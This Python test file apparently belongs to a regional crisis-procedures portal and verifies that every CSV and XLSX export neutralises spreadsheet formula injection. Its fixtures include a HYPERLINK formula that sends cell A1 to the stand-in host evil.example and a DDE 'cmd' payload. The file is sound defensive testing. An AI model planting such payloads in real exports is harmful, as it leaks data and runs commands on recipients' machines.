"""Issue #9 finding 4 / "must work" 4: no CSV or XLSX the portal writes carries a live formula.

Every writer is fed text that a spreadsheet would run (``=HYPERLINK(…)``, ``+1``, ``-2+3``,
``@SUM(1)``, tab or CR then ``=``, a full-width ``＝``) through the fields it prints — company
names, unit names, comuni, complexity notes, province and measure names — and its file is read
back: no CSV cell starts with a formula character unless it is a plain negative number, no
XLSX cell is a formula, and the figures are still numbers.
"""

import csv
import datetime
import io
import re
import tempfile
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from cases.enums import Family
from cases.interchange import HEADER, export_procedures, import_procedures
from cases.models import Company, CrisisProcedure, Province
from crisi_portal.exports import safe_cell, unquote_cell, writer, xlsx_cell
from monitoring.dashboard import CSV_CHARTS
from monitoring.periods import Period
from monitoring.renderers import Context
from monitoring.renderers.tabular import render_csv, render_xlsx
from monitoring.reports import build
from pal.models import Measure
from tests.cases.factories import (
    CompanyFactory,
    CrisisProcedureFactory,
    ProductionUnitFactory,
    partita_iva,
)
from tests.monitoring.builders import worker
from workers.enums import Step

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Apri")'
HOSTILE = [HYPERLINK, "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1dSUM(1)", "-cmd|' /C calc'!A0"]
# The subset an import round trip keeps as is (the importer trims surrounding whitespace).
HOSTILE_TRIMMED = [HYPERLINK, "+1", "-2+3", "@SUM(1)", "\uff1dSUM(1)"]
# What a spreadsheet reads as the start of a formula; kept independent of crisi_portal.exports.
FORMULA_START = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")
GENERATED_AT = datetime.datetime(2026, 11, 21, 22, 5, tzinfo=datetime.UTC)


def read_csv_safely(text: str) -> list[list[str]]:
    """The rows of ``text``, failing on any cell a spreadsheet would evaluate."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            if cell and cell[0] in FORMULA_START:
                assert NEGATIVE_NUMBER.fullmatch(cell), f"live formula in CSV: {cell!r}"
    return rows


def read_xlsx_safely(content: bytes):
    """The workbook in ``content``, failing on any formula cell (in the XML and as read back)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, f"formula element in {name}"
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_START:
                    assert cell.value[:1] and cell.quotePrefix, cell.coordinate
    return workbook


def cells(rows) -> set:
    return {cell for row in rows for cell in row}


def sheet_values(workbook) -> set:
    return {
        cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
    }


def context(kind: str, code: str, scope_label: str = "Regione Lombardia") -> Context:
    return Context(
        scope_label=scope_label, period=Period.parse(kind, code), generated_at=GENERATED_AT
    )


@pytest.fixture
def hostile_procedures():
    """One highly complex ministerial CIGS in progress in 2025 per hostile text, unit in BG."""
    procedures = []
    for number, text in enumerate(HOSTILE):
        procedure = CrisisProcedureFactory(
            company=CompanyFactory(name=text),
            external_id=f"PROC-X-{number}",
            family=Family.CIGS_MINISTERIALE,
            opened_on=datetime.date(2025, 3, 10),
            start_date=datetime.date(2025, 4, 1),
            end_date=datetime.date(2025, 5, 1),  # ended: a negative "days left" on the cruscotto
            high_complexity=True,
            complexity_note=text,
        )
        ProductionUnitFactory(
            procedure=procedure, in_province="BG", name=text, comune=text, workers_involved=1234
        )
        procedures.append(procedure)
    return procedures


# --- The helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_the_apostrophe_and_reads_back_unchanged(text):
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "value", [-2, 0, 1234, -1.5, "-1.2", "100.00", "0.0", "Tessitura S.r.l.", "", None, "'quoted"]
)
def test_numbers_and_plain_text_pass_unchanged(value):
    assert safe_cell(value) == value


def test_the_csv_writer_neutralises_each_cell_and_keeps_negative_numbers():
    out = io.StringIO()
    writer(out, lineterminator="\n").writerows([["=1+1", -3, "-3", "-2+3", 4.5]])
    assert out.getvalue() == "'=1+1,-3,-3,'-2+3,4.5\n"


def test_an_xlsx_text_cell_is_a_string_even_when_it_looks_like_a_formula():
    workbook = Workbook()
    sheet = workbook.active
    xlsx_cell(sheet, row=1, column=1, value=HYPERLINK)
    xlsx_cell(sheet, row=1, column=2, value=-2)
    xlsx_cell(sheet, row=1, column=3, value="Acme\x01 S.p.A.")  # control character: dropped
    buffer = io.BytesIO()
    workbook.save(buffer)

    read = read_xlsx_safely(buffer.getvalue()).active
    assert read["A1"].value == HYPERLINK and read["A1"].data_type == "s"
    assert read["B1"].value == -2 and read["B1"].data_type == "n"
    assert read["C1"].value == "Acme S.p.A."


# --- Procedures interchange CSV (HTML, API, command) --------------------------------------------


def _html_export(client, user):
    client.force_login(user)
    response = client.get(reverse("cases:procedure_export"), {"format": "technical"})
    assert response.status_code == 200
    # The export streams (StreamingHttpResponse): the body is read from streaming_content.
    return b"".join(response.streaming_content).decode()


def _api_export(client, user):
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(user)
    response = api.get("/api/v1/procedures/export/")
    assert response.status_code == 200
    # The export streams (StreamingHttpResponse): the body is read from streaming_content.
    return b"".join(response.streaming_content).decode()


def _command_export(client, user):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "procedures.csv"
        call_command("export_procedures", "--output", str(path), stderr=io.StringIO())
        return path.read_bytes().decode("utf-8")


@pytest.mark.parametrize("export", [_html_export, _api_export, _command_export])
def test_the_procedures_export_neutralises_every_text_cell(
    export, hostile_procedures, client, staff_bg
):
    rows = read_csv_safely(export(client, staff_bg))

    assert rows[0] == HEADER
    body = [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]
    assert len(body) == len(HOSTILE)
    assert {row["company_name"] for row in body} == {"'" + text for text in HOSTILE}
    assert {row["unit_comune"] for row in body} == {"'" + text for text in HOSTILE}
    assert {row["workers_involved"] for row in body} == {"1234"}


def test_an_export_with_formula_names_imports_back_unchanged():
    for number, text in enumerate(HOSTILE_TRIMMED):
        procedure = CrisisProcedureFactory(
            company=CompanyFactory(name=text), external_id=f"PROC-R-{number}"
        )
        ProductionUnitFactory(procedure=procedure, in_province="BG", comune=text)
    out = io.StringIO()
    export_procedures(CrisisProcedure.objects.all(), out)

    result = import_procedures(out.getvalue())

    assert result.ok, result.errors
    assert {c.action for c in result.changes} == {"unchanged"}
    assert set(Company.objects.values_list("name", flat=True)) == set(HOSTILE_TRIMMED)


# --- Cruscotto and dashboard CSVs ---------------------------------------------------------------


def test_the_cruscotto_csv_neutralises_names_and_notes_and_keeps_negative_days(
    hostile_procedures, client, region
):
    client.force_login(region)
    response = client.get(
        reverse("monitoring:cruscotto_csv"), {"include_closed": "on", "format": "technical"}
    )
    assert response.status_code == 200
    # The export streams (StreamingHttpResponse): the body is read from streaming_content.
    rows = read_csv_safely(b"".join(response.streaming_content).decode())

    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert len(body) == len(HOSTILE)
    assert {"'" + text for text in HOSTILE} <= cells(rows)
    # Every procedure ended on 1 May 2025: its days left are a negative number, written raw.
    days = [value for value in cells(rows[1:]) if NEGATIVE_NUMBER.fullmatch(value)]
    assert days and all(int(value) < 0 for value in days)


def test_the_dashboard_chart_csvs_neutralise_a_planted_province_name(client, region):
    Province.objects.filter(code="BG").update(name=HYPERLINK)
    procedure = CrisisProcedureFactory(lead="BG", opened_on=datetime.date(2025, 3, 10))
    site = ProductionUnitFactory(procedure=procedure, in_province="BG", workers_involved=40)
    worker(site, Step.STEP_4)
    client.force_login(region)

    downloads = {}
    for chart in CSV_CHARTS:  # every chart's file is read back safely
        response = client.get(
            reverse("monitoring:dashboard_csv"),
            {"chart": chart, "year": "2025", "format": "technical"},
        )
        assert response.status_code == 200
        # The export streams (StreamingHttpResponse): the body is read from streaming_content.
        downloads[chart] = read_csv_safely(b"".join(response.streaming_content).decode())

    rows = downloads["provinces"]
    bergamo = dict(zip(rows[0], next(row for row in rows if row[0] == "BG"), strict=True))
    assert bergamo["name"] == "'" + HYPERLINK
    assert int(bergamo["workers_involved"]) == 40
    assert float(bergamo["activation_rate"]) == 100.0


# --- Report CSV and XLSX ------------------------------------------------------------------------


def test_the_bimonthly_csv_of_a_province_neutralises_company_unit_and_comune(hostile_procedures):
    data = build("bimonthly", Period.parse("bimonthly", "2025-B2"), "BG")
    content = render_csv(data, context("bimonthly", "2025-B2", "Bergamo")).content.decode()
    rows = read_csv_safely(content)

    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert len(body) == len(HOSTILE)
    for field in ("company", "unit_name", "comune"):
        assert {row[field] for row in body} == {"'" + text for text in HOSTILE}
    assert {int(row["workers"]) for row in body} == {1234}


def test_the_bimonthly_xlsx_of_a_province_writes_names_as_text_and_workers_as_numbers(
    hostile_procedures,
):
    with translation.override("en"):
        data = build("bimonthly", Period.parse("bimonthly", "2025-B2"), "BG")
        content = render_xlsx(data, context("bimonthly", "2025-B2", "Bergamo")).content
    workbook = read_xlsx_safely(content)

    sheet = workbook.worksheets[0]
    assert HYPERLINK in sheet_values(workbook)
    header_row = next(r for r in sheet.iter_rows() if r[0].value == "Company")[0].row
    workers = [sheet.cell(row=r, column=11) for r in range(header_row + 1, sheet.max_row + 1)]
    assert [cell.value for cell in workers] == [1234] * len(HOSTILE)
    assert {cell.data_type for cell in workers} == {"n"}


def test_the_annual_and_quarterly_reports_write_a_planted_province_name_as_text():
    Province.objects.filter(code="BG").update(name=HYPERLINK)
    Measure.objects.filter(code="dote-unica-lavoro").update(name="@SUM(1)")
    procedure = CrisisProcedureFactory(lead="BG", opened_on=datetime.date(2025, 3, 10))
    site = ProductionUnitFactory(procedure=procedure, in_province="BG", workers_involved=40)
    # Step 3 at the end of Q1, step 4 in Q2: a negative change in the step 3 column.
    worker(site, Step.STEP_4, taken_on=datetime.date(2025, 3, 20), days_to_step_4=28)

    with translation.override("en"):
        annual = render_xlsx(
            build("annual", Period.parse("annual", "2025")), context("annual", "2025")
        )
        quarterly_data = build("quarterly", Period.parse("quarterly", "2025-Q2"))
        quarterly = render_xlsx(quarterly_data, context("quarterly", "2025-Q2"))
        quarterly_csv = render_csv(quarterly_data, context("quarterly", "2025-Q2"))

    assert HYPERLINK in sheet_values(read_xlsx_safely(annual.content))
    workbook = read_xlsx_safely(quarterly.content)
    assert {HYPERLINK, "@SUM(1)"} <= sheet_values(workbook)
    bergamo = next(r for r in workbook.worksheets[0].iter_rows() if r[0].value == HYPERLINK)
    assert -1 in [cell.value for cell in bergamo]  # the change column: still a number

    rows = read_csv_safely(quarterly_csv.content.decode())
    line = dict(zip(rows[0], next(row for row in rows if row[0] == "BG"), strict=True))
    assert line["name"] == "'" + HYPERLINK
    assert int(line["change_step_3"]) == -1


# --- Finding 4: one province's formula in another province's documents -------------------------


def test_a_formula_planted_by_one_province_reaches_another_province_only_as_text(
    staff_mi, staff_bg, api_client_for, client
):
    """Milan leads a procedure with a unit in Bergamo and names its company with a formula:
    Bergamo's report (CSV and XLSX) and Bergamo's export carry it as text."""
    tax_code = partita_iva(7_654_321)
    body = {
        "external_id": "MI-2025-1",
        "company": {"name": HYPERLINK, "tax_code": tax_code},
        "family": "cigs_ministeriale",
        "opened_on": "2025-01-15",
        "start_date": "2025-02-01",
        "end_date": "2026-01-31",
        "lead_province": "MI",
        "units": [
            {"external_id": "U-1", "comune": "Rho", "province": "MI", "workers_involved": 20},
            {"external_id": "U-2", "comune": "-1+1", "province": "BG", "workers_involved": 80},
        ],
    }
    response = api_client_for(staff_mi).post("/api/v1/procedures/", body, format="json")
    assert response.status_code == 201, response.content
    assert Company.objects.get(tax_code=tax_code).name == HYPERLINK

    with translation.override("en"):
        data = build("bimonthly", Period.parse("bimonthly", "2025-B3"), "BG")
        report_csv = render_csv(data, context("bimonthly", "2025-B3", "Bergamo"))
        report_xlsx = render_xlsx(data, context("bimonthly", "2025-B3", "Bergamo"))

    report_rows = read_csv_safely(report_csv.content.decode())
    assert {"'" + HYPERLINK, "'-1+1", "80"} <= cells(report_rows)
    assert HYPERLINK in sheet_values(read_xlsx_safely(report_xlsx.content))
    assert "'" + HYPERLINK in cells(read_csv_safely(_html_export(client, staff_bg)))
